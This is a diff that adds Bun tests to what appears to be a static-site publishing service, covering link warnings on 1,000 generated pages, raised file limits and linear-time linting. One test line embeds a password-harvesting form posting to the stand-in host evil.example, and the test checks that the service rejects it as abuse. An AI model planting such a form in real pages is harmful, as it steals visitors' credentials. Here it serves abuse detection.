@@ -1,5 +1,9 @@
 /** PIPELINE 4: one cause, few warnings; what is no fault of the author is not told; what helps is. */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { expectLinear } from "../kit/cpu.ts";
+import { renderMarkdownSite } from "../../src/pipeline/docs/index.ts";
+import { lint } from "../../src/pipeline/lint/index.ts";
+import { asWritten } from "../../src/pipeline/written.ts";
 import { page, PNG, SHOW, TEXT } from "./parts.ts";
 import { type Contents, startServer, type TestServer } from "../kit/server.ts";
 
@@ -90,6 +94,55 @@ describe("what a page both links and loads is loaded", () => {
     const warnings = await warningsOf(pages(1, body));
     expect(warnings.map(({ code }) => code)).toEqual(["missing_asset"]);
   });
+});
+
+describe("PIPELINE 4: links that the service made are not judged", () => {
+  const small = (count: number, ending: string, text: (i: number) => string): Contents =>
+    Object.fromEntries(Array.from({ length: count }, (_, i) => [`p${i}.${ending}`, text(i)]));
+  test.each([
+    [
+      "Markdown pages, each with the list of all",
+      small(1000, "md", (i) => `# Page ${i}\n\n[On](p${(i * 7) % 1000}.md)`),
+    ],
+    [
+      "pages, and the list that the service makes of them",
+      small(1000, "html", (i) => page(`<a href="p${(i * 7) % 1000}.html">On</a>`)),
+    ],
+  ])(
+    "1,000 small %s go through with raised limits",
+    async (_, files) => {
+      await using large = await startServer("--max-files", "1000");
+      expect((await large.deploy(files)).warnings).toEqual([]);
+    },
+    60_000,
+  );
+  test("what an author wrote on such a page is", async () => {
+    await using large = await startServer("--max-files", "1000");
+    const files = { ...small(600, "md", (i) => `# Page ${i}`), "p7.md": "# 7\n\n![](gone.png)" };
+    expect((await large.deploy(files)).warnings).toMatchObject([{ code: "missing_asset", path: "p7.md" }]);
+    await expect(
+      large.deploy({ ...files, "p8.md": '<form action="https://evil.example/x"><input type="password"></form>' }),
+    ).rejects.toThrow("abuse_rejected");
+  }, 60_000);
+  test("judging takes time as pages do", () => {
+    const draftOf = (count: number) => {
+      const files = Object.entries(
+        small(count, "md", (i) => `# Page ${i}\n\n[On](p${(i * 7) % count}.md) ![](a.png) ${"word ".repeat(60)}`),
+      );
+      const upload = new Map(
+        [...files, ["a.png", ""] as const].map(([path, text]) => [path, Buffer.from(text as string)]),
+      );
+      return asWritten(
+        renderMarkdownSite(
+          { files: upload, made: new Set(), stripped_folder: null, healed: [], warnings: [] },
+          () => {},
+        ),
+      );
+    };
+    expectLinear(400, draftOf, (draft) => {
+      expect(lint(draft, { enabled: false, rule: "none" }, () => {}).warnings).toEqual([]);
+    });
+  }, 60_000);
 });
 
 describe("a service worker", () => {
